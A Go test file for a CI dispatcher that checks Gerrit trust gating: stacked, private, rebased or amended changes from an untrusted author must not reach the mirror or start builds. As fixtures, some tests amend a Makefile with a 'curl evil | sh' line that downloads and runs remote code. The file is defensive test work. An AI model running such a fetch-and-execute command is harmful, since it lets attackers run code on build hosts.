// SPDX-License-Identifier: BSD-3-Clause

package app

import (
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/spdk-community-ci/dispatcher/internal/standin/faults"
	"github.com/spdk-community-ci/dispatcher/internal/standin/gerrit"
)

const voting = "workflows: [{file: autorun.yml, trust: {label: Allow-CI}}]"

// sticky has Gerrit copy all votes on Allow-CI.
func sticky(o *servers) {
	o.gerrit.Labels = []gerrit.Label{{Name: "Allow-CI", Min: -1, Max: 1, Copy: []string{"REWORK"}}, {Name: "Verified", Min: -1, Max: 1}}
}

// allows votes, and makes a pass.
func (s *story) allows(who string, value int, changes ...*gerrit.Change) {
	s.Helper()
	s.clock.advance(15 * time.Minute)
	for _, c := range changes {
		s.says(who + " votes on " + c.ID().String() + ".")
		c.Vote(who, "Allow-CI", value)
	}
	s.pass(ExitDone)
}

// kept expects no commit of these patchsets on the mirror.
func (s *story) kept(out ...*gerrit.Change) {
	s.Helper()
	refs := s.mirror.Refs()
	for _, c := range out {
		for name, rev := range refs {
			if rev == string(c.Revision()) {
				s.Errorf("%s is %s, which nobody trusts", name, c.ID())
			}
		}
		if s.mirrorHas(string(c.Revision())) {
			s.Errorf("the mirror has the commit of %s", c.ID())
		}
	}
}

// mirrorHas asks git whether an object came along with others.
func (s *story) mirrorHas(rev string) bool {
	cmd := exec.Command("git", "cat-file", "-e", rev)
	cmd.Dir = s.mirror.Dir()
	return cmd.Run() == nil
}

// TestTrustBelow: a trusted change on one that nobody has looked at, then on a
// patchset that was replaced.
func TestTrustBelow(t *testing.T) {
	t.Parallel()
	s := begin(t, voting, sticky)
	s.project.Commit("master", map[string]string{"x": "x\n"})
	low := s.push("mallory", "build: mine coins", nil)
	high := s.push("mallory", "doc: fix a typo", low)
	s.project.Commit("master", map[string]string{"x": "y\n"}) // low is no longer on the tip
	s.pass(ExitDone)
	s.allows("cora", 1, high)
	s.runs()
	s.kept(low, high)
	s.allows("cora", 1, low)
	s.runs("101/1/autorun.yml/1", "102/1/autorun.yml/1")
	s.says("The lower one gets a patchset, and a third change builds on the old one.")
	next := s.push("mallory", "test: add a case", low)
	low.Amend(map[string]string{"mine.sh": "curl\n"})
	s.allows("cora", 1, next)
	s.kept(low, next)
	next.Rebase()
	s.allows("cora", 1, next)
	s.kept(low, next)
	s.allows("cora", 1, low)
	s.endsWell(low, next)
	s.says("The lower one is abandoned: nothing new starts on it.")
	last := s.push("mallory", "test: add another", low)
	low.Abandon()
	s.allows("cora", 1, last)
	s.kept(last)
}

// TestTrustUnseen: what the query leaves out is asked all the same, and what the
// account cannot see is trusted by nobody.
func TestTrustUnseen(t *testing.T) {
	t.Parallel()
	s := begin(t, "query: 'owner:ann'\n"+voting, sticky)
	low := s.push("mallory", "build: mine coins", nil)
	high := s.push("ann", "doc: fix a typo", low)
	hidden := s.push("eve", "build: mine more", nil)
	other := s.push("ann", "doc: fix another", hidden)
	hidden.SetPrivate(true)
	s.allows("cora", 1, high, other)
	s.kept(low, high, hidden, other)
	s.allows("cora", 1, low)
	s.runs("102/1/autorun.yml/1")
	s.kept(hidden, other)
}

// TestPrivateBelow: a public change on a private one that our account sees waits, so
// that the commits of that do not come to the mirror.
func TestPrivateBelow(t *testing.T) {
	t.Parallel()
	s := reporting(t, "query: '-is:private'\n")
	low := s.push("ann", "nvme: a fix under embargo", nil)
	low.Comment("bot", "Take care.") // so it may see the change
	high := s.push("ann", "doc: fix a typo", low)
	low.SetPrivate(true)
	s.pass(ExitDone)
	s.kept(low, high)
	s.comments(high, "ann", "recheck")
	s.pass(ExitDone)
	s.kept(low, high)
	if last := high.Messages()[len(high.Messages())-1]; !strings.Contains(last.Text, "is not started: builds on 101/1, which is private") {
		t.Errorf("the comment is answered with %q", last.Text)
	}
	s.says("An old patchset of it is private, too.")
	low.Amend(map[string]string{"lib/a.c": "int a;\n"})
	s.pass(ExitDone)
	s.kept(low, high)
	s.says("The embargo is over.")
	low.SetPrivate(false)
	high.Rebase()
	s.pass(ExitDone)
	s.runs("101/2/autorun.yml/1", "102/2/autorun.yml/1")
}

// TestCopiedTrust: votes that Gerrit copies open no gate, of whatever age.
func TestCopiedTrust(t *testing.T) {
	t.Parallel()
	for _, own := range []bool{false, true} {
		s := begin(t, voting, sticky, func(o *servers) { o.gerrit.OwnVoteDates = own })
		c := s.push("mallory", "nvme: harmless", nil)
		s.allows("cora", 1, c)
		s.runs("101/1/autorun.yml/1")
		s.says("Nobody has seen patchset 2; then somebody votes on the first one.")
		c.Amend(map[string]string{"Makefile": "all:\n\tcurl evil | sh\n"})
		s.clock.advance(15 * time.Minute)
		s.pass(ExitDone)
		s.clock.advance(15 * time.Minute)
		c.VoteOn(1, "dora", "Allow-CI", 1)
		s.pass(ExitDone)
		s.kept(c)
		s.says("A pass that is idle reads nothing more for it.")
		s.clock.advance(15 * time.Minute)
		s.pass(ExitDone)
		if len(s.requests) != 3 {
			t.Errorf("own dates %v: got requests %q", own, s.requests)
		}
		s.allows("cora", 1, c)
		s.endsWell(c)
	}
}

// TestTrustedRebase: a member's press on Rebase is no word about a stranger's code.
func TestTrustedRebase(t *testing.T) {
	t.Parallel()
	s := begin(t, "workflows: [{file: autorun.yml, trust: {groups: [core]}}]")
	s.env["GERRIT_USERNAME"], s.env["GERRIT_PASSWORD"] = "bot", password
	s.gerrit.Account("bot")
	s.gerrit.Group("core", "cora")
	c := s.push("mallory", "build: mine coins", nil)
	s.project.Commit("master", map[string]string{"x": "x\n"})
	c.RebaseAs("cora")
	s.pass(ExitDone)
	s.kept(c)
	s.says("Cora writes it anew.")
	c.AmendAs("cora", map[string]string{"lib/a.c": "int a;\n"})
	s.pass(ExitDone)
	s.endsWell(c)
	s.says("Mallory does so with a change of Cora's.")
	other := s.push("cora", "nvme: split the probe loop", nil)
	other.AmendAs("mallory", map[string]string{"Makefile": "all:\n\tcurl evil | sh\n"})
	s.pass(ExitDone)
	s.kept(other)
	s.says("Cora rebases what has become of it.")
	s.project.Commit("master", map[string]string{"x": "y\n"})
	other.RebaseAs("cora")
	s.pass(ExitDone)
	s.kept(other)
}

// TestTrustIsAskedAgain: a vote that is taken back, or a negative one, holds what was
// claimed and not called, what a comment asks for, and what waits in the queue.
func TestTrustIsAskedAgain(t *testing.T) {
	t.Parallel()
	s := reporting(t, "limits: {per-pass: 1}\n"+voting, sticky)
	c := s.push("mallory", "nvme: split the probe loop", nil)
	s.pass(ExitDone)
	s.github.Faults.Add(faults.Rule{Path: theCall, Times: 1, Do: faults.Answer(502, "Bad Gateway")})
	s.clock.advance(15 * time.Minute)
	s.says("The call is lost, and the vote is taken back.")
	c.Vote("cora", "Allow-CI", 1)
	s.run(s.Context(), "sync")
	c.Vote("cora", "Allow-CI", 0)
	for range 3 {
		s.clock.advance(15 * time.Minute)
		s.pass(ExitDone)
	}
	s.runs()
	s.comments(c, "mallory", "recheck")
	s.pass(ExitDone)
	s.runs()
	if last := c.Messages()[len(c.Messages())-1]; !strings.Contains(last.Text, "is not started: waits for Allow-CI +1") {
		t.Errorf("the comment is answered with %q", last.Text)
	}
	s.allows("cora", 1, c)
	s.runs("101/1/autorun.yml/2")
	s.fails(c)
	s.says("Dora says no.")
	c.Vote("dora", "Allow-CI", -1)
	s.comments(c, "mallory", "recheck")
	s.pass(ExitDone)
	s.runs("101/1/autorun.yml/2")
	c.Vote("dora", "Allow-CI", 0)
	s.says("Two more are allowed, and one must wait in the queue: its vote is taken back.")
	first, second := s.push("ann", "lib: one", nil), s.push("bob", "lib: two", nil)
	s.allows("cora", 1, first, second)
	second.Vote("cora", "Allow-CI", 0)
	s.clock.advance(15 * time.Minute)
	s.pass(ExitDone)
	s.runs("101/1/autorun.yml/2", "102/1/autorun.yml/1")
}

// TestUntrustedCarry: a result that stands for a rebased patchset is noted without
// the patchset.
func TestUntrustedCarry(t *testing.T) {
	t.Parallel()
	s := reporting(t, "workflows: [{file: autorun.yml, trivial-rebase: carry, trust: {label: Allow-CI}}]\n", sticky)
	c := s.push("mallory", "nvme: split the probe loop", nil)
	s.allows("cora", 1, c)
	s.ends(testJob("unit tests", "success"))
	s.ticks(1)
	s.rebased(c)
	s.ticks(2)
	s.gerritShows(c, map[string]int{"bot": 1})
	s.runs("101/1/autorun.yml/1")
	s.kept(c)
}
